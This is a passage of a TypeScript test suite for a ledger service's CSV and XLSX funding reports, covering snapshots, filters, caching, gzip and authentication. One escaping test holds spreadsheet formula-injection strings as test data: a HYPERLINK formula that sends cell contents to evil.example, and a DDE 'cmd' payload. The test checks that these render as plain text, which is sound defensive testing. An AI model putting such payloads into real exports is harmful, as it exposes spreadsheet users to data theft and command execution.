        expect([s.query, sheetCells(sheet2.rows).slice(0, want2.length)]).toEqual([s.query, want2]);
      }
      const tmCsvThen = (await csv(`/reports/funding-mix/2013/csv?county=telemark&asOf=${at}`)).rows.flat();
      expect([tmCsvThen.includes('NAV Skien'), tmCsvThen.includes('NAV Skien og Porsgrunn')]).toEqual([true, false]);
      const tmCsvNow = (await csv('/reports/funding-mix/2013/csv?county=telemark')).rows.flat();
      expect(tmCsvNow).toContain('NAV Skien og Porsgrunn');
      // and /key-figures?format=csv as of T1
      const plain = csvOf((await file(`/key-figures/2013?format=csv&asOf=${at}`)).body, ',').rows;
      expect(plain).toEqual(csvOfRows(keyFiguresExpected(kfThen, 'plain')));
    });

    it('an as-of report is the same file after later writes (same bytes, same ETag); an asOf still to come answers as the head does', async () => {
      const at = encodeURIComponent(asOfT1);
      const urls = [`/reports/key-figures/2013/csv?asOf=${at}`, `/reports/funding-mix/2013/csv?county=telemark&asOf=${at}`, `/reports/2013/xlsx?county=telemark&asOf=${at}`];
      const before = await Promise.all(urls.map((u) => file(u)));
      await post('/centres/kc-tm/funding/operating-grants', { entryId: 'after-asof', fiscalYear: 2013, partyId: 'tm-navlok', decidedOn: '2013-06-01', amount: '0.01' });
      for (let i = 0; i < urls.length; i++) {
        const again = await file(urls[i]);
        expect([urls[i], again.rawPayload.equals(before[i].rawPayload), again.headers.etag]).toEqual([urls[i], true, before[i].headers.etag]);
      }
      for (const url of ['/reports/key-figures/2013/csv', '/reports/funding-mix/2013/csv?county=telemark', '/reports/2013/xlsx?county=telemark']) {
        const head = await file(url);
        const future = await file(`${url}${url.includes('?') ? '&' : '?'}asOf=2099-12-31T12:00:00Z`);
        expect([url, future.rawPayload.equals(head.rawPayload)]).toEqual([url, true]);
      }
    });

    it('as of a time before a centre or any money existed: 404 CENTRE.NOT_FOUND as the JSON route; an empty key-figures table', async () => {
      const at = encodeURIComponent(asOfT0);
      const report = await errorOf(`/reports/funding-mix/2013/csv?centre=kc-tm&asOf=${at}`);
      const jsonAnswer = await errorOf(`/centres/kc-tm/funding-mix/2013?asOf=${at}`);
      expect([report.status, report.code]).toEqual([jsonAnswer.status, jsonAnswer.code]);
      expect(report.status).toBe(404);
      expect((await errorOf(`/reports/2013/xlsx?centre=kc-tm&asOf=${at}`)).code).toBe('CENTRE.NOT_FOUND');
      const { rows } = await csv(`/reports/key-figures/2013/csv?asOf=${at}`);
      expect(rows[0]).toEqual(['Nøkkeltall 2013']);
    });

    it('a malformed, doubled or misspelt asOf and a bad X-Ledger-Position are 400 on every report route, never answered at the head', async () => {
      for (const base of ['/reports/key-figures/2013/csv', '/reports/funding-mix/2013/csv', '/reports/2013/xlsx']) {
        expect([base, (await errorOf(`${base}?asOf=yesterday`)).code]).toEqual([base, 'REQUEST.BAD_AS_OF']);
        expect([base, (await errorOf(`${base}?asOf=2014-01-01&asOf=2015-01-01`)).code]).toEqual([base, 'REQUEST.BAD_AS_OF']);
        expect([base, (await errorOf(`${base}?as_of=2014-01-01`)).code]).toEqual([base, 'REQUEST.BAD_AS_OF']);
        expect([base, (await errorOf(`${base}?countyy=telemark`)).code]).toEqual([base, 'VALIDATION.UNKNOWN_FIELD']);
        const res = await raw(base, { 'X-Ledger-Position': '1e3' });
        expect([base, res.statusCode, JSON.parse(res.body).code]).toEqual([base, 400, 'REQUEST.BAD_POSITION']);
      }
    });
  });

  // ===========================================================================================
  // XLSX: the package
  // ===========================================================================================

  describe('XLSX files', () => {
    it('a valid zip (central directory, local headers, deflate, CRC) whose every part is well-formed XML 1.0, with a content type for each part and every relationship resolving', async () => {
      for (const url of [...XLSX_URLS, '/reports/1995/xlsx', '/reports/2013/xlsx?county=oppland']) {
        const res = await file(url);
        expect([url, res.headers['content-type']]).toEqual([url, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']);
        const wb = readWorkbook(res.rawPayload);
        expect([url, [...wb.parts.keys()].sort()]).toEqual([url, ['[Content_Types].xml', '_rels/.rels', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']]);
        expect([url, [...wb.parts.keys()][0]]).toEqual([url, '[Content_Types].xml']);
        for (const [name] of wb.parts) expect([url, name, wb.xml.has(name)]).toEqual([url, name, true]);
      }
    });

    it('README: two sheets, «Nøkkeltall» and «Finansieringsmiks» (each with the year), legal Excel sheet names', async () => {
      const wb = await xlsx('/reports/2013/xlsx');
      expect(wb.sheets.map((s) => s.name)).toEqual(['Nøkkeltall 2013', 'Finansieringsmiks 2013']);
      for (const s of wb.sheets) expect([s.name, s.name.length <= 31, /[[\]:*?/\\]/.test(s.name)]).toEqual([s.name, true, false]);
    });

    it('number formats: the styles define #,##0.00 for NOK, #,##0 for counts, 0.0 for staff-years and 0.0% for shares, and every style a cell names exists', async () => {
      const wb = await xlsx('/reports/2013/xlsx?county=telemark');
      const used = new Set(wb.sheets.flatMap((s) => s.rows.flat().filter((c) => c && c.number !== null).map((c) => c.numFmt)));
      expect([...used].sort()).toEqual([INT, NOK, TENTHS, PCT].sort());
    });

    it('shared and inline strings are escaped: & < > " in party names and references read back exactly as the JSON text; text starting with = is a string, never a formula', async () => {
      const wb = await xlsx('/reports/2013/xlsx?county=telemark');
      const texts = wb.sheets[1].rows.flat().map((c) => c?.text).filter(Boolean);
      for (const s of ['Firma "Sitat"; AS & <Co>', 'Næringshage <Skien> & co', 'Sak; "12/34"\u00a0& <b>', '=HYPERLINK("http://evil.example/?"&A1;"Skien kommune")', "-2+3+cmd|' /C calc'!A0", 'Karrieresenter Telemark; "Skien"']) {
        expect([s, texts.includes(s)]).toEqual([s, true]);
      }
    });

    it('README: no character XML 1.0 forbids — a legacy party name with U+0001, U+FFFE and a lone surrogate reads as the JSON name without them', async () => {
      const mix = await json('/counties/hedmark/funding-mix/2013');
      const name = mix.byParty.find((p: any) => p.partyId === 'hm-ctl').partyName;
      expect(name).toBe('Kontroll\u0001tegn\uFFFE & <ok>\uD800');
      const wb = await xlsx('/reports/2013/xlsx?county=hedmark');
      expect(wb.sheets[1].rows.flat().map((c) => c?.text)).toContain('Kontrolltegn & <ok>');
    });

    it('a text cell reads back as the JSON text after XML parsing: a carriage return inside a (legacy) party name survives', async () => {
      // XML 1.0 §2.11: a parser turns a literal CR (and CRLF) into LF, so "Linje en\rlinje to" written
      // as it is reads "Linje en\nlinje to" in Excel/LibreOffice; it must be written as &#13; (or
      // Excel's _x000D_) to stay what the ledger holds. README: cells "matching" the JSON.
      const mix = await json('/counties/oppland/funding-mix/2013');
      expect(mix.byParty.map((p: any) => p.partyName)).toContain('Linje en\rlinje to');
      const wb = await xlsx('/reports/2013/xlsx?county=oppland');
      const texts = wb.sheets[1].rows.flat().map((c) => c?.text).filter(Boolean);
      expect(texts).toContain('Linje en\rlinje to');
    });

    it('README: «Nøkkeltall» follows the filter — ?county= that county\'s column only; ?centre= its county\'s column under "Fylket til <centre>: <county>" (the name of that year); unfiltered every county with a centre that year', async () => {
      const all = (await xlsx('/reports/2013/xlsx')).sheets[0];
      const kf = await json('/key-figures/2013');
      expect(all.rows[0].slice(1).map((c) => c.text)).toEqual(kf.counties.map((c: any) => c.name));
      expect(kf.counties.map((c: any) => c.countyId)).toEqual(['ostfold', 'hedmark', 'oppland', 'telemark', 'troms']);
      const one = (await xlsx('/reports/2013/xlsx?county=troms')).sheets[0];
      expect(one.rows[0].map((c) => c.text)).toEqual(['Nøkkeltall 2013', 'Troms']);
      const centre = (await xlsx('/reports/2013/xlsx?centre=kc-tr')).sheets[0];
      expect(centre.rows[0].map((c) => c.text)).toEqual(['Fylket til =Tromsø karrieresenter: Troms']);
      const kfTroms = await json('/key-figures/2013?counties=troms');
      const expected = expectedCells(keyFiguresExpected(kfTroms, 'xlsx', 'Fylket til =Tromsø karrieresenter: Troms'));
      expect(sheetCells(centre.rows).slice(0, expected.length)).toEqual(expected);
      // the frozen header follows the extra line
      const pane = kid(kid(kid(centre.node, 'sheetViews')!, 'sheetView')!, 'pane')!;
      expect([pane.attrs.ySplit, pane.attrs.topLeftCell, pane.attrs.state]).toEqual(['2', 'A3', 'frozen']);
    });
  });

  // ===========================================================================================
  // Filters
  // ===========================================================================================

  describe('filters', () => {
    it('an unknown county or centre is 404 as on the JSON routes (a county differing only in case told the registered id); county and centre together 400 REPORT.ONE_FILTER; ?centre= on the key-figures CSV 400 VALIDATION.UNKNOWN_FIELD', async () => {
      const pairs: [string, string][] = [
        ['/reports/funding-mix/2013/csv?county=nowhere', '/counties/nowhere/funding-mix/2013'],
        ['/reports/2013/xlsx?county=nowhere', '/counties/nowhere/funding-mix/2013'],
        ['/reports/key-figures/2013/csv?county=nowhere', '/key-figures/2013?counties=nowhere'],
        ['/reports/funding-mix/2013/csv?county=Telemark', '/counties/Telemark/funding-mix/2013'],
        ['/reports/key-figures/2013/csv?county=Telemark', '/key-figures/2013?counties=Telemark'],
        ['/reports/2013/xlsx?county=Telemark', '/counties/Telemark/funding-mix/2013'],
        ['/reports/funding-mix/2013/csv?centre=kc-nowhere', '/centres/kc-nowhere/funding-mix/2013'],
        ['/reports/2013/xlsx?centre=kc-nowhere', '/centres/kc-nowhere/funding-mix/2013'],
        ['/reports/funding-mix/2013/csv?centre=KC-TM', '/centres/KC-TM/funding-mix/2013'],
      ];
      for (const [report, route] of pairs) {
        const a = await errorOf(report);
        const b = await errorOf(route);
        expect([report, a.status, a.code]).toEqual([report, b.status, b.code]);
        expect([report, a.status]).toEqual([report, 404]);
      }
      expect((await errorOf('/reports/key-figures/2013/csv?county=Telemark')).message).toContain('did you mean telemark?');
      for (const url of ['/reports/funding-mix/2013/csv?county=troms&centre=kc-tr', '/reports/2013/xlsx?centre=kc-tr&county=troms', '/reports/funding-mix/2013/csv?county=nowhere&centre=kc-nowhere']) {
        expect([url, await errorOf(url)]).toEqual([url, expect.objectContaining({ status: 400, code: 'REPORT.ONE_FILTER' })]);
      }
      expect(await errorOf('/reports/key-figures/2013/csv?centre=kc-tm')).toEqual(expect.objectContaining({ status: 400, code: 'VALIDATION.UNKNOWN_FIELD' }));
      // a filter given twice, or empty, is not read as no filter (README: "a misspelt filter is never read as no filter")
      for (const url of ['/reports/funding-mix/2013/csv?county=troms&county=telemark', '/reports/funding-mix/2013/csv?county=', '/reports/2013/xlsx?centre=', '/reports/key-figures/2013/csv?county=', '/reports/2013/xlsx?atPosition=3']) {
        expect([url, (await errorOf(url)).status]).toEqual([url, 400]);
      }
    });

    it('README: a year out of range (or not four digits) is 400 FISCAL_YEAR.OUT_OF_RANGE with details.field "year" and one message on every report route, JSON, CSV and XLSX', async () => {
      for (const y of ['1989', '2101', 'abcd', '13', '+2013', '2013.0', '02013', '%202013']) {
        const answers = await Promise.all([`/funding-mix/${y}`, `/key-figures/${y}`, `/reports/key-figures/${y}/csv`, `/reports/funding-mix/${y}/csv`, `/reports/${y}/xlsx`].map((u) => errorOf(u)));
        for (const a of answers) expect([y, a.status, a.code, a.details?.field]).toEqual([y, 400, 'FISCAL_YEAR.OUT_OF_RANGE', 'year']);
        expect([y, new Set(answers.map((a) => a.message)).size]).toEqual([y, 1]);
      }
      for (const y of ['1990', '2100']) for (const u of [`/reports/key-figures/${y}/csv`, `/reports/funding-mix/${y}/csv`, `/reports/${y}/xlsx`]) expect([u, (await raw(u)).statusCode]).toEqual([u, 200]);
    });

    it('a year with no data: the key-figures CSV and XLSX have the labels and no county column (as the JSON: no county), the mix a Sum of 0,00', async () => {
      const kf = await json('/key-figures/1995');
      expect(kf.counties).toEqual([]);
      const { rows } = await csv('/reports/key-figures/1995/csv');
      expect(rows.slice(0, -1)).toEqual(csvOfRows(keyFiguresExpected(kf, 'csv')));
      const wb = await xlsx('/reports/1995/xlsx');
      expect(sheetCells(wb.sheets[0].rows).slice(0, -1)).toEqual(expectedCells(keyFiguresExpected(kf, 'xlsx')));
      const mix = (await csv('/reports/funding-mix/1995/csv')).rows;
      expect(mix.find((r) => r[0] === 'Sum')![2]).toBe('0,00');
    });

    it('a county with no centre: its column with 0 centres and every other cell "-" or empty, in the CSV and the XLSX, as GET /key-figures?counties=', async () => {
      const kf = await json('/key-figures/2013?counties=finnmark');
      expect(kf.counties.map((c: any) => [c.countyId, c.centres])).toEqual([['finnmark', 0]]);
      const { rows } = await csv('/reports/key-figures/2013/csv?county=finnmark');
      expect(rows.slice(0, -1)).toEqual(csvOfRows(keyFiguresExpected(kf, 'csv')));
      expect(rows.slice(1, -2).map((r) => r[1]).filter((v) => !['0', '-', '', '0,0'].includes(v))).toEqual([]);
      const sheet = (await xlsx('/reports/2013/xlsx?county=finnmark')).sheets[0];
      expect(sheetCells(sheet.rows).slice(0, -1)).toEqual(expectedCells(keyFiguresExpected(kf, 'xlsx')));
    });

    it('a centre closed in 2012 is not counted in its county\'s 2013 reports; asked for by ?centre=, its own (empty) 2013 mix and its county\'s 2013 column, named as in its last year', async () => {
      const county = (await csv('/reports/funding-mix/2013/csv?county=ostfold')).rows;
      const perCentre = county.slice(county.findIndex((r) => r[0] === 'Per karrieresenter') + 1).filter((r) => r.length === 6).map((r) => r[0]);
      expect(perCentre).toEqual(['Karriere Østfold']);
      const kf = (await csv('/reports/key-figures/2013/csv?county=ostfold')).rows;
      expect(kf.find((r) => r[0] === 'Antall karrieresentre')![1]).toBe('1');
      const own = await json('/centres/kc-of-old/funding-mix/2013');
      const { rows } = await csv('/reports/funding-mix/2013/csv?centre=kc-of-old');
      // every row but the Sum row, whose share over an empty mix is a finding of its own (above)
      const notSum = (r: string[]) => r[0] !== 'Sum';
      expect(rows.slice(0, -1).filter(notSum)).toEqual(csvOfRows(fundingMixExpected(own)).filter(notSum));
      expect(rows.find((r) => r[0] === 'Sum')!.slice(0, 3)).toEqual(['Sum', '', '0,00']);
      const wb = await xlsx('/reports/2013/xlsx?centre=kc-of-old');
      expect(wb.sheets[0].rows[0][0].text).toBe('Fylket til Halden (nedlagt): Østfold');
      expect(wb.sheets[0].rows[1].map((c) => c.text)).toEqual(['Nøkkeltall 2013', 'Østfold']);
      // its 2012 mix still shows what is recorded for it
      expect((await csv('/reports/funding-mix/2012/csv?centre=kc-of-old')).rows.find((r) => r[0] === 'Sum')![2]).toBe('1000,00');
    });

    it('a centre closed mid-2013 counts in 2013 (Troms: 2 centres, its 5 000,00 in the county total), as in the JSON', async () => {
      const kf = (await csv('/reports/key-figures/2013/csv?county=troms')).rows;
      expect(kf.find((r) => r[0] === 'Antall karrieresentre')![1]).toBe('2');
      expect(kf.find((r) => r[0] === 'Driftsmidler fra fylkeskommunen, kr')![1]).toBe('5000,00 + ikke oppgitt');
      const mix = (await csv('/reports/funding-mix/2013/csv?county=troms')).rows;
      expect(mix.filter((r) => r[0] === 'Harstad, lagt ned').map((r) => r[2])).toEqual(['5000,00']);
    });

    it('a centre not yet open that year (opens 2014): ?centre= gives its empty 2013 mix and Vestfold\'s 2013 column with 0 centres', async () => {
      const wb = await xlsx('/reports/2013/xlsx?centre=kc-vf');
      expect(wb.sheets[0].rows[0][0].text).toBe('Fylket til Karrieresenter Vestfold: Vestfold');
      const kf = await json('/key-figures/2013?counties=vestfold');
      expect(sheetCells(wb.sheets[0].rows).slice(0, -1)).toEqual(expectedCells(keyFiguresExpected(kf, 'xlsx', 'Fylket til Karrieresenter Vestfold: Vestfold')));
    });
  });

  // ===========================================================================================
  // HTTP: names, types, HEAD, conditional GET, gzip
  // ===========================================================================================

  describe('HTTP', () => {
    it('Content-Disposition: attachment with a filename of safe characters that names the year (and the county or centre for the mix and the workbook)', async () => {
      for (const url of REPORT_URLS) {
        const res = await file(url);
        const m = /^attachment; filename="([A-Za-z0-9._-]+)"$/.exec(String(res.headers['content-disposition']));
        expect([url, m !== null]).toEqual([url, true]);
        const year = /\/(\d{4})\//.exec(url)![1];
        expect([url, m![1].includes(year), m![1].endsWith(url.includes('xlsx') ? '.xlsx' : '.csv')]).toEqual([url, true, true]);
        const filter = /[?&](?:county|centre)=([^&]+)/.exec(url)?.[1];
        if (filter && !url.includes('/key-figures/')) expect([url, m![1].includes(filter)]).toEqual([url, true]);
      }
    });

    it('HEAD gets the headers GET would (type, disposition, length, ETag) and no body', async () => {
      for (const url of ['/reports/key-figures/2013/csv', '/reports/funding-mix/2013/csv?county=telemark', '/reports/2013/xlsx?county=telemark']) {
        const get = await file(url);
        const head = await raw(url, {}, 'HEAD');
        expect([url, head.statusCode, head.rawPayload.length]).toEqual([url, 200, 0]);
        for (const h of ['content-type', 'content-disposition', 'etag', 'cache-control']) expect([url, h, head.headers[h]]).toEqual([url, h, get.headers[h]]);
        expect([url, Number(head.headers['content-length'])]).toEqual([url, get.rawPayload.length]);
      }
    });

    it('conditional GET: If-None-Match with the ETag is 304 without a body; after a write that changes the report the ETag changes and the old one gets the new file', async () => {
      for (const url of ['/reports/key-figures/2015/csv?county=ostfold', '/reports/funding-mix/2015/csv?county=ostfold', '/reports/2015/xlsx?county=ostfold']) {
        const first = await file(url);
        const etag = String(first.headers.etag);
        expect(etag).toMatch(/^W\/"[A-Za-z0-9_-]+"$/);
        const again = await raw(url, { 'If-None-Match': etag });
        expect([url, again.statusCode, again.rawPayload.length, again.headers.etag]).toEqual([url, 304, 0, etag]);
        expect([url, (await raw(url, { 'If-None-Match': 'W/"something-else"' })).statusCode]).toEqual([url, 200]);
      }
      const before = (await file('/reports/funding-mix/2015/csv?county=ostfold')).headers.etag;
      await post('/centres/kc-of/funding/operating-grants', { entryId: 'etag-2015', fiscalYear: 2015, partyId: 'of-fk', decidedOn: '2015-01-05', amount: '1.00' });
      for (const url of ['/reports/key-figures/2015/csv?county=ostfold', '/reports/funding-mix/2015/csv?county=ostfold', '/reports/2015/xlsx?county=ostfold']) {
        const res = await raw(url, { 'If-None-Match': String(before) });
        expect([url, res.statusCode]).toEqual([url, 200]);
      }
      const after = await file('/reports/funding-mix/2015/csv?county=ostfold');
      expect(after.headers.etag).not.toBe(before);
      expect(csvOf(after.body).rows.find((r) => r[0] === 'Sum')![2]).toBe('1,00');
    });

    it('gzip (LEDGER_GZIP_MIN_BYTES): a CSV at least that long goes gzipped to a client that accepts it, with Vary: Accept-Encoding and the identity ETag; it inflates to the identity bytes', async () => {
      const head = (await json('/audit/digest')).headPosition;
      const small = await startTestApp({ store: t.store, env: { LEDGER_RATE_LIMIT_PER_MINUTE: '0', LEDGER_GZIP_MIN_BYTES: '512' } });
      try {
        const s2 = small.app.getHttpServer();
        const who = await small.auth('auditor');
        for (const url of ['/reports/funding-mix/2013/csv', '/reports/key-figures/2013/csv', '/key-figures/2013?format=csv']) {
          const plain = await rawGet(s2, url, { ...who, 'X-Ledger-Position': String(head) });
          const zipped = await rawGet(s2, url, { ...who, 'X-Ledger-Position': String(head), 'Accept-Encoding': 'gzip' });
          expect([url, plain.statusCode, zipped.statusCode, zipped.headers['content-encoding']]).toEqual([url, 200, 200, 'gzip']);
          expect([url, String(zipped.headers.vary)]).toEqual([url, expect.stringContaining('Accept-Encoding')]);
          expect([url, zipped.headers.etag]).toEqual([url, plain.headers.etag]);
          expect([url, gunzipSync(zipped.rawPayload).equals(plain.rawPayload)]).toEqual([url, true]);
          expect([url, zipped.headers['content-disposition']]).toEqual([url, plain.headers['content-disposition']]);
          const refused = await rawGet(s2, url, { ...who, 'X-Ledger-Position': String(head), 'Accept-Encoding': 'gzip;q=0, identity' });
          expect([url, refused.headers['content-encoding'], refused.rawPayload.equals(plain.rawPayload)]).toEqual([url, undefined, true]);
          const headZipped = await rawGet(s2, url, { ...who, 'X-Ledger-Position': String(head), 'Accept-Encoding': 'gzip' }, 'HEAD');
          expect([url, headZipped.headers['content-encoding'], Number(headZipped.headers['content-length']), headZipped.rawPayload.length]).toEqual([url, 'gzip', zipped.rawPayload.length, 0]);
        }
        // The workbook, already a zip, goes as it is (the code's choice; README, Configuration, says "every answer … at least this long is gzipped").
        const wb = await rawGet(s2, '/reports/2013/xlsx', { ...who, 'X-Ledger-Position': String(head), 'Accept-Encoding': 'gzip' });
        expect(wb.rawPayload.length).toBeGreaterThan(512);
        expect(wb.headers['content-encoding']).toBeUndefined();
        expect(() => readWorkbook(wb.rawPayload)).not.toThrow();
      } finally {
        await small.close();
      }
    });
  });

  // ===========================================================================================
  // Access
  // ===========================================================================================

  describe('access (README: reads are open to every role; reads never answer ACCESS.OTHER_COUNTY)', () => {
    it('every role gets every report, the same bytes as the auditor — a finance officer of another county included', async () => {
      const who: [string, Auth][] = [
        ['finance officer, Telemark', await t.auth('finance-officer', ['telemark'], 'fo-tm')],
        ['finance officer, Troms (another county)', await t.auth('finance-officer', ['troms'], 'fo-tr')],
        ['board member', await t.auth('board-member', [], 'styre')],
        ['Vox', await t.auth('vox', [], 'vox')],
        ['admin', admin],
      ];
      for (const url of ['/reports/key-figures/2013/csv?county=telemark', '/reports/funding-mix/2013/csv?centre=kc-tm', '/reports/2013/xlsx?county=telemark', '/key-figures/2013?format=csv&counties=telemark']) {
        const reference = (await file(url)).rawPayload;
        for (const [label, auth] of who) {
          const res = await rawGet(server, url, auth);
          expect([url, label, res.statusCode, res.rawPayload.equals(reference)]).toEqual([url, label, 200, true]);
        }
      }
    });

    it('no token, a malformed or a wrongly signed one: 401 with WWW-Authenticate, in the one error shape, never the file', async () => {
      // The signature's first character changed: its last one carries two padding bits, so 'A' ↔ 'B' there
      // (a token ending in 'A', one in sixteen) decodes to the same signature, and the token verified.
      const [h, p, sig] = (await t.token('auditor')).split('.');
      const forged = `${h}.${p}.${sig[0] === 'A' ? 'B' : 'A'}${sig.slice(1)}`;
      for (const url of ['/reports/key-figures/2013/csv', '/reports/funding-mix/2013/csv', '/reports/2013/xlsx']) {
        for (const headers of [{}, { Authorization: 'Bearer nonsense' }, { Authorization: `Bearer ${forged}` }] as Record<string, string>[]) {
          const res = await rawGet(server, url, headers);
          expect([url, res.statusCode, String(res.headers['www-authenticate']).startsWith('Bearer realm="ledger"')]).toEqual([url, 401, true]);
          expect([url, res.headers['content-disposition'], JSON.parse(res.body).code]).toEqual([url, undefined, expect.stringMatching(/^AUTH\./)]);
        }
      }
    });
  });

  // ===========================================================================================
  // DOMAIN.md's published 2013 columns, through the report files (the shipped fixture)
  // ===========================================================================================

  describe('DOMAIN.md, the key figures table 2013: the four published columns in the report CSV and the workbook', () => {
    let f: TestApp;
    let who: Auth;
    beforeAll(async () => {
      f = await startTestApp({ env: { LEDGER_RATE_LIMIT_PER_MINUTE: '0' } });
      await importFile(f.app, FIXTURE_2013);
      who = await f.auth('auditor');
    });
    afterAll(() => f.close());

    // DOMAIN.md, columns Telemark | Troms | Østfold | Vest-Agder, here in county-number order: Østfold 01, Telemark 08, Vest-Agder 10, Troms 19.
    const PUBLISHED: [string, string[]][] = [
      ['Nøkkeltall 2013', ['Østfold', 'Telemark', 'Vest-Agder', 'Troms']],
      ['Antall karrieresentre', ['1', '1', '3', '1']],
      ['Ansatte per 31.12 i fylkeskommunen', ['4', '5', '10', '4']],
      ['Ansatte per 31.12 i NAV fylke', ['2', '-', '-', '-']],
      ['Ansatte i hel stilling (81–100 %) per 31.12', ['5', '5', '5', '3']],
      ['Årsverk', ['5,5', '5,0', '7,5', '3,8']],
      ['Driftsmidler fra fylkeskommunen', ['Ja', 'Ja', 'Ja', '-']],
      ['Driftsmidler fra fylkeskommunen, kr', ['690400,00', '2363000,00', '5460000,00', '']],
      ['Driftsmidler fra NAV fylke', ['-', 'Ja', '-', '-']],
      ['Driftsmidler fra NAV fylke, kr', ['', '1325000,00', '', '']],
      ['Øremerkede midler fra fylkeskommunen', ['-', 'Ja', '-', 'Ja']],
      ['Øremerkede midler fra fylkeskommunen, kr', ['', '731000,00', '', '980773,00']],
      ['Øremerkede midler fra NAV fylke', ['-', 'Ja', '-', 'Ja']],
      ['Øremerkede midler fra NAV fylke, kr', ['', 'ikke oppgitt', '', '550000,00']],
      ['Årsverk lønnet direkte av NAV fylke', ['Ja', '-', '-', '-']],
      ['Årsverk lønnet direkte av NAV fylke, årsverk', ['2,0', '', '', '']],
    ];

    it('the report CSV shows every published cell (decimal comma, "ikke oppgitt" for Telemark\'s NAV earmarked money with no sum)', async () => {
      const res = await rawGet(f.app.getHttpServer(), '/reports/key-figures/2013/csv', who);
      const rows = csvOf(res.body).rows;
      for (const [label, cells] of PUBLISHED) expect([label, rows.find((r) => r[0] === label)?.slice(1)]).toEqual([label, cells]);
    });

    it('the workbook\'s «Nøkkeltall» holds the same cells as numbers (NOK, counts, staff-years), and a row counting Telemark\'s entry without a sum', async () => {
      const res = await rawGet(f.app.getHttpServer(), '/reports/2013/xlsx', who);
      const rows = readWorkbook(res.rawPayload).sheets[0].rows;
      const shown = (c: XCell | undefined) => (c === undefined ? '' : c.text ?? (c.numFmt === NOK ? comma(c.number!.toFixed(2)) : c.numFmt === TENTHS ? comma(c.number!.toFixed(1)) : String(c.number)));
      for (const [label, cells] of PUBLISHED) {
        const row = rows.find((r) => r[0]?.text === label);
        expect([label, [1, 2, 3, 4].map((i) => shown(row?.[i]))]).toEqual([label, cells]);
      }
      const nok = rows.find((r) => r[0]?.text === 'Driftsmidler fra fylkeskommunen, kr')!;
      expect([nok[1].number, nok[1].numFmt]).toEqual([690400, NOK]);
      const count = rows.find((r) => r[0]?.text === 'Øremerkede midler fra NAV fylke: poster uten oppgitt beløp')!;
      expect(count.slice(1).map((c) => c.number)).toEqual([0, 1, 0, 0]);
    });
  });
});
